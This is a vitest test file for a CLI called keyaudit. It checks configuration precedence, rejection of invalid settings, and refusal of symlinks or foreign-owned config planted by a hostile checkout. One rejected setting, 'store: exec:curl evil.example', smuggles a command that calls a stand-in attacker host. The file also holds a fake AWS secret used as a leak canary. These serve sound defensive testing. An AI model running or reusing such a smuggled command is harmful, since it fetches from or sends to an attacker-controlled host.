import { chown, mkdir, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli, temporaryFolder } from '../support/run-cli.ts';

const FILE = 'keyaudit.config.yaml';
const PROFILE = 'name: mine\npermissions: { products: read }\n';

/** A project with the profile `mine` and these settings. */
async function project(settings?: string) {
  const cwd = await temporaryFolder();
  await mkdir(join(cwd, 'profiles'));
  await writeFile(join(cwd, 'profiles/mine.yaml'), PROFILE);
  if (settings !== undefined) await writeFile(join(cwd, FILE), settings);
  return cwd;
}

async function refusal(cwd: string, args: readonly string[] = ['config']) {
  const run = await runCli(args, { cwd });
  expect(run, run.stderr).toMatchObject({ exitCode: 2, stdout: '' });
  return run.stderr.replace(/\s+/g, ' ');
}

describe('keyaudit config', () => {
  it('shows what holds and from where: command line before environment before file before default', async () => {
    const cwd = await project(
      '# ours\ndepth: endpoints\nrate: 7\nstore: env-file:.env.local\nkey-api: managed\n',
    );
    const { stdout } = await runCli(['config', '--format', 'json', '--target', 'stripe'], {
      cwd,
      env: { KEYAUDIT_DEPTH: 'checks', KEYAUDIT_STORE: '' },
    });
    const { settings } = JSON.parse(stdout) as { settings: { name: string; from: string }[] };
    expect(settings.map(({ name, from }) => [name, from])).toEqual(
      expect.arrayContaining([
        ['target', 'command line'],
        ['depth', 'environment'],
        ['rate', 'file'],
        ['store', 'file'],
        ['key-api', 'file'],
        ['witness', 'default'],
        ['profiles', 'default'],
      ]),
    );
    const shown = (await runCli(['config'], { cwd })).stdout;
    expect(shown).toMatch(/store\s.*env-file:\.env\.local.*keyaudit\.config\.yaml:4/);
    expect(shown).toMatch(/depth\s.*endpoints.*keyaudit\.config\.yaml:2/);
  });

  it('is what the commands do: the store and the folder of the profiles', async () => {
    const cwd = await project('store: env-file:.env.local\nprofiles: agents\n');
    await mkdir(join(cwd, 'agents'));
    await writeFile(join(cwd, 'agents/other.yaml'), 'name: other\npermissions: { coupons: read }\n');
    expect((await runCli(['provision', '--all'], { cwd })).exitCode).toBe(0);
    expect(await readFile(join(cwd, '.env.local'), 'utf8')).toMatch(/^STRIPE_OTHER_KEY=rk_test_/m);
    expect((await runCli(['verify', 'other'], { cwd })).exitCode).toBe(0);
    expect((await runCli(['verify', 'mine'], { cwd })).exitCode).toBe(2);
  });

  it.each([
    ['storre: env-file', `${FILE}:3:1 Unknown key "storre". → Did you mean "store"?`],
    ['live: true', `${FILE}:3:1 A settings file may not say "live".`],
    ['store: env-file:../.env', `${FILE}:3`],
    ['store: exec:curl evil.example', `${FILE}:3`],
    ['key-api: mine', `${FILE}:3`],
    ['profiles: /etc', `${FILE}:3`],
  ])('names file and line of %s, whatever the command', async (line, told) => {
    const cwd = await project(`# ours\nrate: 7\n${line}\n`);
    for (const args of [['config'], ['verify', 'mine'], ['provision', 'mine'], ['init', 'new']]) {
      expect(await refusal(cwd, args)).toContain(told);
    }
    expect((await readdir(cwd)).sort()).toEqual([FILE, 'profiles']);
  });
});

describe('a settings file of a hostile checkout', () => {
  it('is not read through a link that leads out of the project: what is there would be told line by line', async () => {
    const secret = join(await temporaryFolder(), 'credentials');
    await writeFile(secret, 'aws_secret_access_key: wJalrXUtnFEMI\n');
    const cwd = await project();
    await symlink(secret, join(cwd, FILE));
    const said = await refusal(cwd);
    expect(said).toContain('is a link that leads out of its folder');
    expect(said).not.toMatch(/aws_secret|wJalr/);
  });

  it('may be a link within the project', async () => {
    const cwd = await project();
    await writeFile(join(cwd, 'settings.yaml'), 'rate: 7\n');
    await symlink('settings.yaml', join(cwd, FILE));
    expect((await runCli(['config'], { cwd })).stdout).toMatch(/rate\s.*7/);
  });

  it.each([
    ['store', 'store: env-file:.env.local\n', '.env.local'],
    ['profiles', 'profiles: agents\n', 'agents'],
    ['reports', 'reports: [json=out.json]\n', 'out.json'],
  ])('sends nothing by %s through a link that came with it', async (_name, settings, link) => {
    const outside = await temporaryFolder();
    const cwd = await project(settings);
    await symlink(join(outside, 'planted'), join(cwd, link));
    expect(await refusal(cwd, ['provision', 'mine'])).toContain(`${link} is a link that leads elsewhere.`);
    expect(await readdir(outside)).toEqual([]);
  });

  const isRoot = process.getuid?.() === 0;
  if (!isRoot) console.warn('\n  LEFT OUT: settings of another user: only root can give a file away.\n');
  it.skipIf(!isRoot)('is not obeyed above the working folder where another user put it', async () => {
    const cwd = await project('rate: 7\n');
    await mkdir(join(cwd, '.git'));
    await mkdir(join(cwd, 'below'));
    const below = join(cwd, 'below');
    const run = () => runCli(['config'], { cwd: below, env: { HOME: join(cwd, '..') } });
    expect((await run()).stdout).toMatch(/rate\s.*7/);
    await chown(join(cwd, FILE), 12_345, 12_345);
    const theirs = await run();
    expect(theirs).toMatchObject({ exitCode: 2, stdout: '' });
    expect(theirs.stderr).toContain('belongs to another user');
  });
});
